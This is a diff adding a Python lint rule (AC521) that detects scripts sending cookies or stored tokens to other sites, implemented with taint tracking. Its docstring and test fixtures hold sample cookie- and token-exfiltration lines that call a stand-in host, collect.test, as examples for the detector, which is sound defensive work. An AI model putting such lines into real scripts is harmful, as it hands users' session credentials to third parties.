@@ -1,0 +1,168 @@
+"""AC521 foreign-credentials
+
+## What it does
+Refuses two things: a value read from cookies or storage that goes into a request to another site, and a request to
+another site that carries the user's cookies of that site. Hosts with the same registrable domain are one site.
+
+## Why it matters
+The script runs in the user's session. A cookie or token that leaves its site is an account given away, and an adapter
+of one site has no business in the user's account at another.
+
+## Example
+    fetch('https://collect.test/?c=' + encodeURIComponent(document.cookie))
+Use instead: nothing; what a site stores stays on the site.
+
+## Fix safety
+There is no automatic fix. Where the other host only serves public data, `credentials: 'omit'` is right.
+"""
+
+from __future__ import annotations
+
+from bisect import bisect_left, insort
+from typing import TYPE_CHECKING
+
+from adapterc.spec.diagnostics import Sink
+from adapterc.spec.expr import Template
+from adapterc.spec.ir import AdapterIR, Evaluate, Request
+from adapterc.spec.span import Span
+from adapterc.whitelist.analysis.names import under
+from adapterc.whitelist.analysis.pieces import constants
+from adapterc.whitelist.analysis.requests import Sent, option, requests
+from adapterc.whitelist.analysis.scripts import Body, bodies
+from adapterc.whitelist.analysis.sites import same_site
+from adapterc.whitelist.analysis.targets import target_of
+from adapterc.whitelist.profiles import Profile
+
+if TYPE_CHECKING:
+    from tree_sitter import Node
+
+__all__ = ["CODE", "INVALID", "VALID", "check"]
+
+CODE = "AC521"
+VALID = (
+    "fetch('https://api.shop.test/me', { headers: { 'X-CSRF': document.cookie }, credentials: 'include' })",
+    "fetch('/me', { headers: { 'X-CSRF': localStorage.getItem('t') } })",
+    "fetch('https://cdn.other.test/list.json')",
+    "const seen = document.cookie; fetch('https://cdn.other.test/list.json', { credentials: 'omit' }); seen",
+)
+INVALID = (
+    (
+        "fetch('https://collect.test/?c=' + encodeURIComponent(document.cookie))",
+        "1:7 what `shop.test` keeps for the user is sent to `collect.test`",
+    ),
+    (
+        "const read = () => localStorage.getItem('t');\n"
+        "const token = read(); const send = (t) => fetch('https://collect.test/', { method: 'POST', body: t });\n"
+        "send(token)",
+        "2:49 what `shop.test` keeps for the user is sent to `collect.test`",
+    ),
+    (
+        "fetch('https://bank.test/me', { credentials: 'include' })",
+        "1:7 the user's cookies of `bank.test` are sent from a page of `shop.test`",
+    ),
+    (
+        "const x = new XMLHttpRequest(); x.open('POST', 'https://collect.test/'); x.send(document.cookie)",
+        "1:48 what `shop.test` keeps for the user is sent to `collect.test`",
+    ),
+)
+
+_STORES = ("document.cookie", "localStorage", "sessionStorage", "cookieStore", "indexedDB")
+
+
+def check(ir: AdapterIR, profile: Profile, sink: Sink, /) -> None:
+    """Report credentials that leave their site."""
+    home = (ir.entry.host or ir.entry.domain) if ir.entry is not None else ir.domain
+    if not home:
+        return
+    for body in bodies(ir):
+        taint: _Taint | None = None
+        for sent in requests(body):
+            foreign = sorted({t.host for t in sent.targets if t.kind == "host" and not same_site(t.host, home)})
+            if not foreign:
+                continue
+            taint = taint or _Taint(body)
+            span = body.script.span(sent.url)
+            if taint.reaches(sent):
+                message = f"what `{home}` keeps for the user is sent to `{foreign[0]}`"
+                sink.report(CODE, message, span, help="leave it out: what a site stores stays on the site")
+            elif _includes(body, sent):
+                _report_cookies(foreign[0], home, span, sink)
+    for step in ir.steps:
+        if isinstance(step, Evaluate) and isinstance(step.action, Request) and step.action.credentials == "include":
+            url = step.action.url
+            first = url.parts[0] if isinstance(url, Template) and url.parts else getattr(url, "value", "")
+            target = target_of((first, "/")) if isinstance(first, str) else None
+            if target is not None and target.kind == "host" and not same_site(target.host, home):
+                place = url.text.span if isinstance(url, Template) else getattr(url, "span", step.span)
+                _report_cookies(target.host, home, place, sink)
+
+
+def _report_cookies(host: str, home: str, span: Span, sink: Sink) -> None:
+    sink.report(
+        CODE,
+        f"the user's cookies of `{host}` are sent from a page of `{home}`",
+        span,
+        help=f"open a page of `{host}` instead, or send `credentials: 'omit'`",
+    )
+
+
+def _includes(body: Body, sent: Sent) -> bool:
+    if sent.xhr:
+        return sent.credentials == "include"
+    for state, node in option(body, sent.options, "credentials"):
+        texts = None if node is None else constants(body.values.pieces(node))
+        if state == "value" and texts and "include" in texts:
+            return True
+    return False
+
+
+class _Taint:
+    """Which parts of a body hold something that the page keeps for the user. A name is tainted by any part of what it
+    is given, a parameter by what any caller passes."""
+
+    def __init__(self, body: Body) -> None:
+        self.body = body
+        self._places = sorted(
+            node.start_byte for node, path in body.paths if any(under(path, name) for name in _STORES)
+        )
+        declarations = body.script.scopes.declarations
+        known = set(self._places)
+        todo = bool(known)
+        while todo:
+            todo = False
+            for declaration in declarations:
+                uses = {use.node.start_byte for use in declaration.references}
+                if uses and not uses <= known and self._given(declaration.node):
+                    for place in uses - known:
+                        insort(self._places, place)
+                    known |= uses
+                    todo = True
+
+    def _given(self, declared: Node) -> bool:
+        for how, node in self.body.index.sources(declared):
+            if how != "parameter":
+                if self.inside(node):
+                    return True
+                continue
+            position = self.body.index.position(node, declared)
+            passed = None if position is None else self.body.index.arguments_for(node, position)
+            if passed and any(self.inside(part) for part in passed):
+                return True
+        parent = self.body.index.parent(declared)
+        return parent is not None and parent.type == "function_declaration" and self.inside(parent)
+
+    def inside(self, node: Node) -> bool:
+        """True when a tainted part stands in `node`."""
+        index = bisect_left(self._places, node.start_byte)
+        return index < len(self._places) and self._places[index] < node.end_byte
+
+    def reaches(self, sent: Sent) -> bool:
+        """True when the request itself, or what is later given to its `send`, holds a tainted part."""
+        parts = self.body.index.arguments(sent.place)
+        if sent.xhr:
+            for call in self.body.index.of("call_expression"):
+                callee = self.body.index.callee(call)
+                member = callee is not None and callee.type == "member_expression"
+                if callee is not None and member and self.body.index.key_of(callee) in ("send", "setRequestHeader"):
+                    parts = [*parts, *self.body.index.arguments(call)]
+        return any(self.inside(part) for part in parts)
